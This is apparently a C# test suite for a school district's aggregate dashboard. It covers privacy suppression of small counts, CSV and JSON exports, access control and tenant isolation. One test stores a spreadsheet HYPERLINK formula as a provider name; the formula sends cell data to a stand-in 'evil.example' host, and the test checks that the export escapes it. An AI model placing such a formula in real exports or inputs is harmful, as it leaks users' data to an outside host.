using System.Net;
using System.Text.Json;
using Microsoft.EntityFrameworkCore;
using SuccessPlans.Features.Cabinet;
using SuccessPlans.Features.Directory;
using SuccessPlans.Features.Plans;
using SuccessPlans.Features.Referrals;
using SuccessPlans.Features.Students;
using SuccessPlans.Features.Users;
using SuccessPlans.Tests.Infrastructure;

namespace SuccessPlans.Tests.Cabinet;

/// <summary>
/// The cabinet's dashboard over data made the way users make it (referrals sent, accepted and served through
/// ReferralService): the counts, the periods, suppression built to catch a naive rule, exports, and no child.
/// </summary>
public class CabinetTests : IAsyncLifetime
{
    // 20 November 2026: the school year 2026-27 began on 1 August.
    private readonly AppFactory _app = new(new DateTimeOffset(2026, 11, 20, 15, 0, 0, TimeSpan.Zero));
    private int _tenant, _north, _south, _tiny, _bigHelp, _smallHelp, _tutoring, _counseling, _dental;
    private readonly List<string> _childNames = [];

    private static DateOnly D(string s) => DateOnly.Parse(s, System.Globalization.CultureInfo.InvariantCulture);

    public async Task InitializeAsync()
    {
        _tenant = (await _app.CreateTenantAsync("cab")).Id;
        _north = (await _app.CreateSchoolAsync(_tenant, "North Elementary")).Id;
        _south = (await _app.CreateSchoolAsync(_tenant, "South Elementary")).Id;
        _tiny = (await _app.CreateSchoolAsync(_tenant, "Tiny Montessori")).Id;
        await _app.InTenant(_tenant, async (_, db) =>
        {
            var big = new ProviderOrganization { Name = "Big Help" };
            var small = new ProviderOrganization { Name = "Small Help" };
            db.ProviderOrganizations.AddRange(big, small);
            var tutoring = new Service { Name = "Tutoring", Organization = big, Domain = Domain.Academic, Tier = ServiceTier.EarlyIntervention };
            var counseling = new Service { Name = "Counseling", Organization = big, Domain = Domain.SocialEmotionalBehavioral, Tier = ServiceTier.PreventionEnrichment };
            var dental = new Service { Name = "Dental van", Organization = small, Domain = Domain.Health, Tier = ServiceTier.IntensiveCrisis };
            db.Services.AddRange(tutoring, counseling, dental);
            await db.SaveChangesAsync();
            (_bigHelp, _smallHelp, _tutoring, _counseling, _dental) = (big.Id, small.Id, tutoring.Id, counseling.Id, dental.Id);
        });
        await _app.CreateUserAsync(_tenant, "cabinet@cab.test", UserRole.Cabinet);
        await _app.CreateUserAsync(_tenant, "admin@cab.test", UserRole.Admin);
        await _app.CreateUserAsync(_tenant, "coord@cab.test", UserRole.Coordinator, [_north, _south, _tiny]);
        await _app.CreateUserAsync(_tenant, "big@cab.test", UserRole.Provider, organizationId: _bigHelp);

        // Built so that naive suppression gives a child away: 30 + 12 + 4 = 46 children, in every breakdown.
        await ServeAsync(_tenant, _north, Domain.Academic, _tutoring, 30, [D("2026-09-30"), D("2026-10-01")], "Nora");
        await ServeAsync(_tenant, _south, Domain.SocialEmotionalBehavioral, _counseling, 12, [D("2026-10-15"), D("2026-10-15")], "Sam");
        await ServeAsync(_tenant, _tiny, Domain.Health, _dental, 4, [D("2026-11-02"), D("2026-11-03")], "Tia");
    }

    public async Task DisposeAsync() => await _app.DisposeAsync();

    private async Task ServeAsync(int tenant, int school, Domain domain, int serviceId, int children, DateOnly[] days, string namePrefix) =>
        _childNames.AddRange(await _app.ServeAsync(tenant, school, domain, serviceId, children, days, namePrefix));

    private Task<Dashboard> DashboardAsync(string from, string to, int? tenant = null) =>
        _app.InTenant(tenant ?? _tenant, (sp, _) => sp.GetRequiredService<CabinetReport>().BuildAsync(new Period(D(from), D(to))));

    private static long?[] Column(DashboardTable t, int c) => t.Rows.Select(r => r.Figures[c].Value).ToArray();

    /// <summary>No column may hide exactly one figure under a total it shows: that figure would be the difference.</summary>
    private static void AssertNothingCanBeWorkedOut(DashboardTable table)
    {
        for (var c = 0; c < table.Columns.Count; c++)
            if (!table.Total.Figures[c].Suppressed)
                Assert.NotEqual(1, table.Rows.Count(r => r.Figures[c].Suppressed));
    }

    [Fact]
    public async Task The_school_year_counts_what_was_delivered_and_hides_small_cells_with_their_complements()
    {
        var d = await DashboardAsync("2026-08-01", "2027-07-31");
        Assert.Equal(92, d.Totals.ServicesDelivered.Value);
        Assert.Equal(46, d.Totals.ChildrenServed.Value);
        Assert.Equal(46, d.Totals.ReferralsMade.Value);
        Assert.Equal(46, d.Totals.ReferralsAccepted.Value);
        Assert.Null(d.Totals.ReferralsCompleted.Value is 0 ? null : d.Totals.ReferralsCompleted.Value);

        var domain = d.Table("domain");
        Assert.Equal(["Academic", "Social-emotional-behavioral", "Health", "Family"], domain.Rows.Select(r => r.Label));
        // Health (4 children) is small; without its complement, 46 - 30 - 0 would give it away.
        Assert.Equal([30L, null, null, 0L], Column(domain, 0));
        Assert.Equal([60L, null, null, 0L], Column(domain, 1));
        Assert.Equal(46, domain.Total.Figures[0].Value);
        var school = d.Table("school");
        Assert.Equal([30L, null, null], Column(school, 0));
        var provider = d.Table("provider");
        Assert.Equal([null, null], Column(provider, 0));
        var tier = d.Table("tier");
        Assert.Equal(3, tier.Rows.Count);
        foreach (var t in d.Tables) AssertNothingCanBeWorkedOut(t);

        var months = d.Table("month");
        Assert.Equal(12, months.Rows.Count);
        Assert.Equal("Sep 2026", months.Rows[1].Label);
        // November's 4 children are hidden, and September, the smallest other month, with them.
        Assert.Equal([0L, null, 42L, null, 0L], Column(months, 0).Take(5));
        AssertNothingCanBeWorkedOut(months);
    }

    [Theory]
    [InlineData("2026-10-01", "2026-10-31", 54)] // one month
    [InlineData("2026-09-01", "2026-10-31", 84)] // two months
    [InlineData("2026-09-01", "2026-11-30", 92)] // three months
    [InlineData("2026-11-01", "2026-11-30", 8)]  // a month of few children: suppressed
    [InlineData("2026-12-01", "2027-07-31", 0)]  // nothing delivered
    [InlineData("2025-08-01", "2027-07-31", 92)] // two school years
    public async Task Any_period_counts_exactly_the_deliveries_in_it(string from, string to, int expected)
    {
        var d = await DashboardAsync(from, to);
        var (services, children) = await _app.InTenant(_tenant, async (_, db) =>
        {
            var inPeriod = db.ServiceDeliveries.Where(x => x.DeliveredOn >= D(from) && x.DeliveredOn <= D(to));
            return (await inPeriod.CountAsync(), await inPeriod.Select(x => x.Referral.StudentId).Distinct().CountAsync());
        });
        Assert.Equal(expected, services);
        Assert.Equal(children < 10 && children > 0 ? null : children, d.Totals.ChildrenServed.Value);
        Assert.Equal(children < 10 && children > 0 ? null : services, d.Totals.ServicesDelivered.Value);
    }

    [Fact]
    public async Task The_rollup_kept_on_every_delivery_equals_one_rebuilt_from_the_deliveries()
    {
        async Task<List<string>> Rows() => (await _app.InTenant(_tenant, (_, db) => db.DeliveryYears.OrderBy(m => m.ReferralId).ThenBy(m => m.SchoolYear).ToListAsync()))
            .Select(m => $"{m.ReferralId}/{m.SchoolYear}/{m.StudentId}/{m.SchoolId}/{m.OrganizationId}/{m.Domain}/{m.Tier}/" +
                         string.Join(",", m.Aug, m.Sep, m.Oct, m.Nov, m.Dec, m.Jan, m.Feb, m.Mar, m.Apr, m.May, m.Jun, m.Jul)).ToList();
        var kept = await Rows();
        Assert.Equal(46, kept.Count); // one row per referral: all served in the school year 2026-27
        Assert.Contains(kept, r => r.EndsWith("/EarlyIntervention/0,1,1,0,0,0,0,0,0,0,0,0")); // tutoring: September and October
        await _app.InTenant(_tenant, (_, db) => DeliveryRollup.RebuildAsync(db, DateTime.UtcNow));
        Assert.Equal(kept, await Rows());
    }

    [Fact]
    public async Task The_served_months_kept_on_every_delivery_and_correction_equal_those_rebuilt_migrated_and_compacted()
    {
        // Corrections that move a child's served months about: a September service moved to November, a service
        // removed, and a service in August before a child's only month.
        await _app.InTenant(_tenant, async (sp, db) =>
        {
            var service = sp.GetRequiredService<ReferralService>();
            var actor = new Actor(null, "test");
            var nora = await db.Referrals.Include(r => r.Deliveries).Where(r => r.ServiceId == _tutoring).OrderBy(r => r.Id).FirstAsync();
            await service.CorrectDeliveryAsync(nora, nora.Deliveries.Single(d => d.DeliveredOn == D("2026-09-30")).Id, false, D("2026-11-05"), 1, DeliveryUnit.Sessions, null, "Wrong day", actor, nora.Version);
            var sam = await db.Referrals.Include(r => r.Deliveries).Where(r => r.ServiceId == _counseling).OrderBy(r => r.Id).FirstAsync();
            await service.CorrectDeliveryAsync(sam, sam.Deliveries.First().Id, true, null, null, null, null, "Twice", actor, sam.Version);
            var tia = await db.Referrals.Where(r => r.ServiceId == _dental).OrderBy(r => r.Id).FirstAsync();
            await service.RecordDeliveryAsync(tia, D("2026-08-20"), 1, DeliveryUnit.Sessions, null, actor, tia.Version);
        });

        // Every period's figures are still the deliveries' own, by domain too.
        foreach (var (from, to) in new[] { ("2026-08-01", "2027-07-31"), ("2026-10-01", "2026-11-30"), ("2026-11-01", "2026-11-30"), ("2026-08-01", "2026-09-30") })
        {
            var d = await DashboardAsync(from, to);
            var expected = await _app.InTenant(_tenant, async (_, db) => await db.ServiceDeliveries
                .Where(x => x.DeliveredOn >= D(from) && x.DeliveredOn <= D(to))
                .GroupBy(x => x.Referral.Domain).Select(g => new { g.Key, Children = g.Select(x => x.Referral.StudentId).Distinct().Count(), Services = g.Count() })
                .ToListAsync());
            var byDomain = d.Table("domain");
            foreach (var domain in Enum.GetValues<Domain>())
            {
                var row = byDomain.Rows.Single(r => r.Label == SuccessPlans.Labels.Words(domain));
                var e = expected.SingleOrDefault(x => x.Key == domain);
                if (row.Figures[0].Suppressed) continue;
                Assert.Equal(((long?)(e?.Children ?? 0), (long?)(e?.Services ?? 0)), (row.Figures[0].Value, row.Figures[1].Value));
            }
        }

        async Task<List<string>> Sums() => await _app.InTenant(_tenant, async (_, db) =>
            (await db.ServedMonths.GroupBy(m => new { m.Dimension, m.ValueId, m.MonthNumber, m.PreviousMonthNumber })
                .Select(g => new { g.Key, Children = g.Sum(m => m.Children), Services = g.Sum(m => m.Services) }).ToListAsync())
            .Where(g => g.Children != 0 || g.Services != 0)
            .Select(g => $"{g.Key.Dimension}/{g.Key.ValueId}/{ServedMonth.MonthOf(g.Key.MonthNumber):yyyy-MM}/{g.Key.PreviousMonthNumber}: {g.Children}, {g.Services}")
            .Order().ToList());
        var kept = await Sums();
        Assert.Contains($"Total/0/2026-11/{ServedMonth.Number(2026, 8)}: 1, 2", kept); // Tia's child served in August, then November
        Assert.Contains($"Total/0/2026-11/{ServedMonth.Number(2026, 10)}: 1, 1", kept); // Nora's child moved from September to November

        await _app.InTenant(_tenant, async (sp, db) => { await DeliveryRollup.CompactAsync(db, DateTime.UtcNow); return 0; });
        Assert.Equal(kept, await Sums());
        Assert.Equal(kept.Count, await _app.InTenant(_tenant, (_, db) => db.ServedMonths.CountAsync())); // one row per key

        await _app.InTenant(_tenant, (_, db) => DeliveryRollup.RebuildAsync(db, DateTime.UtcNow));
        Assert.Equal(kept, await Sums());

        var sql = new SuccessPlans.Migrations.Sqlite.Migrations.PerformanceRollups().UpOperations
            .OfType<Microsoft.EntityFrameworkCore.Migrations.Operations.SqlOperation>().Select(o => o.Sql).Single();
        await _app.InTenant(_tenant, async (_, db) => { await db.Database.ExecuteSqlRawAsync("DELETE FROM ServedMonths"); return await db.Database.ExecuteSqlRawAsync(sql); });
        Assert.Equal(kept, await Sums());
    }

    [Fact]
    public async Task The_migration_fills_the_rollup_and_the_referral_columns_as_the_app_does()
    {
        // The SQL of the migration that brought the cabinet, run again over data the app wrote, gives the same rows.
        async Task<List<string>> State() => await _app.InTenant(_tenant, async (_, db) =>
            (await db.DeliveryYears.OrderBy(m => m.ReferralId).ThenBy(m => m.SchoolYear).ToListAsync())
            .Select(m => $"{m.ReferralId}/{m.SchoolYear}/{m.StudentId}/{m.SchoolId}/{m.OrganizationId}/{m.Domain}/{m.Tier}/" +
                         string.Join(",", m.Aug, m.Sep, m.Oct, m.Nov, m.Dec, m.Jan, m.Feb, m.Mar, m.Apr, m.May, m.Jun, m.Jul))
            .Concat((await db.Referrals.OrderBy(r => r.Id).ToListAsync()).Select(r => $"{r.Id}/{r.SchoolId}/{r.Domain}/{r.Tier}/{r.FirstServiceOn}/{r.DaysToFirstService}"))
            .ToList());
        var written = await State();
        var sql = new SuccessPlans.Migrations.Sqlite.Migrations.CabinetBackfill().UpOperations
            .OfType<Microsoft.EntityFrameworkCore.Migrations.Operations.SqlOperation>().Select(o => o.Sql).ToList();
        Assert.Equal(3, sql.Count);
        await _app.InTenant(_tenant, async (_, db) =>
        {
            await db.Database.ExecuteSqlRawAsync("DELETE FROM DeliveryYears; UPDATE Referrals SET SchoolId = 0, Domain = '', Tier = NULL, FirstServiceOn = NULL, DaysToFirstService = NULL;");
            foreach (var statement in sql) await db.Database.ExecuteSqlRawAsync(statement);
        });
        Assert.Equal(written, await State());
    }

    [Fact]
    public async Task A_count_moves_the_moment_a_provider_records_a_service()
    {
        var cabinet = await _app.SignedInAsync("cabinet@cab.test");
        async Task<string> Shown(string measure) =>
            (await cabinet.GetDocumentAsync("/Cabinet")).QuerySelector($"[data-measure='{measure}'] dd")!.TextContent.Trim();
        Assert.Equal("92", await Shown("Services delivered"));

        var referralId = await _app.InTenant(_tenant, (_, db) => db.Referrals.Where(r => r.ServiceId == _tutoring).Select(r => r.Id).FirstAsync());
        var provider = await _app.SignedInAsync("big@cab.test");
        var recorded = await provider.SubmitFormAsync($"/Provider/Referrals/{referralId}", new() { ["deliveredOn"] = "2026-11-19", ["amount"] = "1" },
            formSelector: "form[action*='handler=Deliver']");
        Assert.Equal(HttpStatusCode.Redirect, recorded.StatusCode);
        Assert.Equal("93", await Shown("Services delivered"));
    }

    [Fact]
    public async Task The_page_shows_the_school_year_by_default_and_any_period_asked_for()
    {
        var cabinet = await _app.SignedInAsync("cabinet@cab.test");
        var page = await cabinet.GetDocumentAsync("/Home/Cabinet");
        Assert.Contains("school year 2026–27", page.Body!.TextContent);
        Assert.Equal("2026-08", page.QuerySelector("#From")!.GetAttribute("value"));
        Assert.Equal("month", page.QuerySelector("#From")!.GetAttribute("type"));
        Assert.Equal("2027-07", page.QuerySelector("#To")!.GetAttribute("value"));
        Assert.NotNull(page.QuerySelector("svg#chart-month, svg[aria-labelledby^='chart-month']"));
        Assert.Equal("suppressed", page.QuerySelector("#table-domain tbody tr:nth-child(3) td")!.TextContent.Trim());

        foreach (var url in new[] { "/Cabinet?from=2026-10&to=2026-10", "/Cabinet?from=2026-10-01&to=2026-10-31" })
        {
            var october = await cabinet.GetDocumentAsync(url);
            Assert.Equal("54", october.QuerySelector("[data-measure='Services delivered'] dd")!.TextContent.Trim());
            Assert.Contains("Counts for the October 2026.", october.Body!.TextContent);
            Assert.Equal("2026-10", october.QuerySelector("#To")!.GetAttribute("value"));
        }
        var autumn = await cabinet.GetDocumentAsync("/Cabinet?from=2026-09&to=2026-11");
        Assert.Contains("September 2026 to November 2026", autumn.Body!.TextContent);

        var backwards = await cabinet.GetDocumentAsync("/Cabinet?from=2026-10&to=2026-09");
        Assert.Contains("must not be before its start", backwards.QuerySelector("#to-error")!.TextContent);
        var garbage = await cabinet.GetDocumentAsync("/Cabinet?from=yesterday");
        Assert.Contains("is not a month", garbage.QuerySelector("#from-error")!.TextContent);
    }

    [Fact]
    public async Task Every_table_downloads_as_csv_with_the_same_suppression()
    {
        var cabinet = await _app.SignedInAsync("cabinet@cab.test");
        var csv = await cabinet.GetAsync("/api/v1/cabinet/tables/domain.csv?from=2026-08-01&to=2027-07-31");
        Assert.Equal(HttpStatusCode.OK, csv.StatusCode);
        Assert.Equal("text/csv", csv.Content.Headers.ContentType!.MediaType);
        Assert.Contains("attachment", csv.Content.Headers.ContentDisposition!.ToString());
        Assert.Equal([0xEF, 0xBB, 0xBF], (await csv.Content.ReadAsByteArrayAsync()).Take(3)); // UTF-8 for spreadsheets
        var lines = (await csv.Content.ReadAsStringAsync()).Split("\r\n", StringSplitOptions.RemoveEmptyEntries);
        Assert.Equal([
            "Domain,Children served,Services delivered",
            "Academic,30,60",
            "Social-emotional-behavioral,suppressed,suppressed",
            "Health,suppressed,suppressed",
            "Family,0,0",
            "Total,46,92"], lines);
        foreach (var table in new[] { "totals", "school", "provider", "tier", "month" })
        {
            var r = await cabinet.GetAsync($"/api/v1/cabinet/tables/{table}.csv");
            Assert.Equal(HttpStatusCode.OK, r.StatusCode);
            var text = await r.Content.ReadAsStringAsync();
            Assert.DoesNotContain(_childNames, text.Contains);
        }
        var unknown = await cabinet.GetAsync("/api/v1/cabinet/tables/students.csv");
        Assert.Equal(HttpStatusCode.NotFound, unknown.StatusCode);
        Assert.Equal("application/problem+json", unknown.Content.Headers.ContentType!.MediaType);
    }

    [Fact]
    public async Task A_provider_named_like_a_formula_is_text_in_the_csv()
    {
        const string name = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Big Help\")";
        await _app.InTenant(_tenant, async (_, db) => { (await db.ProviderOrganizations.SingleAsync(o => o.Id == _bigHelp)).Name = name; await db.SaveChangesAsync(); });
        var cabinet = await _app.SignedInAsync("cabinet@cab.test");
        var text = await (await cabinet.GetAsync("/api/v1/cabinet/tables/provider.csv?from=2026-08-01&to=2027-07-31")).Content.ReadAsStringAsync();
        var row = Assert.Single(text.Split("\r\n"), l => l.Contains("HYPERLINK"));
        Assert.StartsWith("\"'=HYPERLINK(\"\"https://evil.example/?leak=\"\"&A1,\"\"Big Help\"\")\",", row);
    }

    [Fact]
    public async Task The_dashboard_is_json_in_the_api_and_its_openapi_document()
    {
        var cabinet = await _app.SignedInAsync("cabinet@cab.test");
        var response = await cabinet.GetAsync("/api/v1/cabinet/dashboard?from=2026-08-01&to=2027-07-31");
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        using var json = JsonDocument.Parse(await response.Content.ReadAsStringAsync());
        var totals = json.RootElement.GetProperty("totals");
        Assert.Equal(92, totals.GetProperty("servicesDelivered").GetProperty("value").GetInt64());
        var health = json.RootElement.GetProperty("tables").EnumerateArray().Single(t => t.GetProperty("key").GetString() == "domain")
            .GetProperty("rows")[2];
        Assert.Equal("Health", health.GetProperty("label").GetString());
        Assert.Equal(JsonValueKind.Null, health.GetProperty("figures")[0].GetProperty("value").ValueKind);
        Assert.True(health.GetProperty("figures")[0].GetProperty("suppressed").GetBoolean());
        // The raw figure never leaves the server, under any name.
        Assert.Equal(["suppressed", "value"], health.GetProperty("figures")[0].EnumerateObject().Select(p => p.Name).Order());

        var bad = await cabinet.GetAsync("/api/v1/cabinet/dashboard?from=2026-10&to=2026-09");
        Assert.Equal(HttpStatusCode.BadRequest, bad.StatusCode);
        Assert.Contains("must not be before its start", await bad.Content.ReadAsStringAsync());
        var garbage = await cabinet.GetAsync("/api/v1/cabinet/dashboard?to=31/10/2026");
        Assert.Equal(HttpStatusCode.BadRequest, garbage.StatusCode);
        Assert.Equal("application/problem+json", garbage.Content.Headers.ContentType!.MediaType);

        var openapi = await _app.Browser().GetStringAsync("/openapi/v1.json");
        Assert.Contains("/api/v1/cabinet/dashboard", openapi);
        Assert.Contains("/api/v1/cabinet/tables/{table}.csv", openapi);
    }

    [Fact]
    public async Task The_cabinet_reaches_no_child_and_other_roles_reach_no_dashboard()
    {
        var cabinet = await _app.SignedInAsync("cabinet@cab.test");
        var (studentId, referralId) = await _app.InTenant(_tenant, async (_, db) => (await db.Students.Select(s => s.Id).FirstAsync(), await db.Referrals.Select(r => r.Id).FirstAsync()));
        foreach (var url in new[] { "/Students", $"/Students/{studentId}", "/Review", "/Provider/Referrals", $"/Provider/Referrals/{referralId}",
                     "/Directory", "/Roster/Import", "/Users", "/api/v1/students", $"/api/v1/students/{studentId}", "/api/v1/schools", "/api/v1/referrals", $"/api/v1/referrals/{referralId}" })
        {
            var r = await cabinet.GetAsync(url);
            Assert.True(r.StatusCode is HttpStatusCode.Forbidden or HttpStatusCode.NotFound or HttpStatusCode.Unauthorized
                || (r.StatusCode == HttpStatusCode.Redirect && r.Headers.Location!.ToString().Contains("AccessDenied")), $"{url} answered {(int)r.StatusCode}");
            var body = await r.Content.ReadAsStringAsync();
            Assert.DoesNotContain(_childNames, body.Contains);
        }
        foreach (var url in new[] { "/Cabinet", "/Home/Cabinet", "/Cabinet?from=2026-09&to=2026-10", "/api/v1/cabinet/dashboard", "/api/v1/cabinet/tables/month.csv" })
        {
            var body = await (await cabinet.GetAsync(url)).Content.ReadAsStringAsync();
            Assert.DoesNotContain(_childNames, body.Contains);
            Assert.DoesNotContain(_childNames.Select(n => n.Replace("Childname", "")), body.Contains);
        }

        foreach (var who in new[] { "coord@cab.test", "big@cab.test" })
        {
            var other = await _app.SignedInAsync(who);
            foreach (var url in new[] { "/Cabinet", "/Home/Cabinet", "/api/v1/cabinet/dashboard", "/api/v1/cabinet/tables/domain.csv" })
            {
                var r = await other.GetAsync(url);
                Assert.True(r.StatusCode is HttpStatusCode.Forbidden or HttpStatusCode.Unauthorized
                    || (r.StatusCode == HttpStatusCode.Redirect && r.Headers.Location!.ToString().Contains("AccessDenied")), $"{who} {url} answered {(int)r.StatusCode}");
                var body = await r.Content.ReadAsStringAsync();
                Assert.DoesNotContain("data-measure", body);
                Assert.DoesNotContain("servicesDelivered", body);
            }
        }
        var anonymous = await _app.Browser().GetAsync("/api/v1/cabinet/dashboard");
        Assert.True(anonymous.StatusCode is HttpStatusCode.Unauthorized or HttpStatusCode.Redirect);
        // Admins see the dashboard too.
        Assert.Equal(HttpStatusCode.OK, (await (await _app.SignedInAsync("admin@cab.test")).GetAsync("/Cabinet")).StatusCode);
    }

    [Fact]
    public async Task Another_tenants_numbers_never_mix_in()
    {
        var other = (await _app.CreateTenantAsync("elsewhere")).Id;
        var school = (await _app.CreateSchoolAsync(other, "Elsewhere Academy")).Id;
        var serviceId = await _app.InTenant(other, async (_, db) =>
        {
            var service = new Service { Name = "Elsewhere tutoring", Organization = new ProviderOrganization { Name = "Elsewhere Org" }, Domain = Domain.Family };
            db.Services.Add(service);
            await db.SaveChangesAsync();
            return service.Id;
        });
        await ServeAsync(other, school, Domain.Family, serviceId, 15, [D("2026-10-05")], "Eli");
        await _app.CreateUserAsync(other, "cabinet@elsewhere.test", UserRole.Cabinet);

        var mine = await DashboardAsync("2026-08-01", "2027-07-31");
        Assert.Equal(92, mine.Totals.ServicesDelivered.Value);
        Assert.Equal(0, mine.Table("domain").Rows.Single(r => r.Label == "Family").Figures[0].Value);
        Assert.DoesNotContain(mine.Tables.SelectMany(t => t.Rows), r => r.Label.Contains("Elsewhere"));

        var theirs = await _app.SignedInAsync("cabinet@elsewhere.test");
        var body = await (await theirs.GetAsync("/api/v1/cabinet/dashboard")).Content.ReadAsStringAsync();
        Assert.Contains("Elsewhere Academy", body);
        Assert.DoesNotContain("North Elementary", body);
        Assert.DoesNotContain("Big Help", body);
        using var json = JsonDocument.Parse(body);
        Assert.Equal(15, json.RootElement.GetProperty("totals").GetProperty("servicesDelivered").GetProperty("value").GetInt64());
    }

    [Fact]
    public async Task A_range_of_days_is_refused_on_the_page_in_the_json_and_in_the_csv()
    {
        var cabinet = await _app.SignedInAsync("cabinet@cab.test");
        // Two days; a school year's start less a day; whole months but a day; one day.
        foreach (var (from, to) in new[] { ("2026-09-30", "2026-10-01"), ("2026-08-01", "2026-09-29"), ("2026-08-02", "2026-09-30"), ("2026-10-15", "2026-10-15") })
            await AssertRefusedAsync(cabinet, from, to);
    }

    private async Task AssertRefusedAsync(HttpClient cabinet, string from, string to)
    {
        var refused = Assert.Throws<ValidationFailedException>(() => new Period(D(from), D(to)));
        Assert.Contains("a range of days would let a day's figures be worked out by subtraction", refused.Message);

        // The page: a field error, and the school year shown instead, never the range asked for.
        var page = await cabinet.GetDocumentAsync($"/Cabinet?from={from}&to={to}");
        var fieldErrors = string.Join(" ", page.QuerySelectorAll(".field-error").Select(e => e.TextContent));
        Assert.Contains("of a month", fieldErrors);
        Assert.Contains("true", page.QuerySelectorAll("#From, #To").Select(i => i.GetAttribute("aria-invalid")));
        Assert.Contains("school year 2026–27", page.Body!.TextContent);
        Assert.Equal("92", page.QuerySelector("[data-measure='Services delivered'] dd")!.TextContent.Trim());

        // The JSON and every CSV: 400 ProblemDetails naming the field.
        foreach (var url in new[] { "/api/v1/cabinet/dashboard" }.Concat(CabinetApiTables().Select(t => $"/api/v1/cabinet/tables/{t}.csv")))
        {
            var response = await cabinet.GetAsync($"{url}?from={from}&to={to}");
            Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
            Assert.Equal("application/problem+json", response.Content.Headers.ContentType!.MediaType);
            using var problem = JsonDocument.Parse(await response.Content.ReadAsStringAsync());
            var errors = problem.RootElement.GetProperty("errors").EnumerateObject().ToList();
            Assert.NotEmpty(errors);
            Assert.All(errors, e => Assert.Contains(e.Name, new[] { "from", "to" }));
            Assert.Contains("of a month", string.Join(" ", errors.SelectMany(e => e.Value.EnumerateArray()).Select(v => v.GetString())));
        }
    }

    private static IEnumerable<string> CabinetApiTables() => ["totals", .. SuccessPlans.Web.Features.Cabinet.CabinetApi.Tables];

    [Fact]
    public async Task The_median_days_to_first_service_and_needs_met_are_counted()
    {
        var d = await DashboardAsync("2026-08-01", "2027-07-31");
        // Sent on the test's "today" (20 November), first served earlier (backdated): never negative.
        Assert.Equal(0, d.Totals.MedianDaysToFirstService.Value);
        Assert.Equal(0, d.Totals.NeedsMet.Value);

        // A period with no first service has no median: nothing, rather than a zero, and nothing suppressed.
        var empty = await DashboardAsync("2025-08-01", "2026-07-31");
        Assert.Null(empty.Totals.MedianDaysToFirstService.Value);
        Assert.False(empty.Totals.MedianDaysToFirstService.Suppressed);
        Assert.Equal(0, empty.Totals.ServicesDelivered.Value);
    }
}
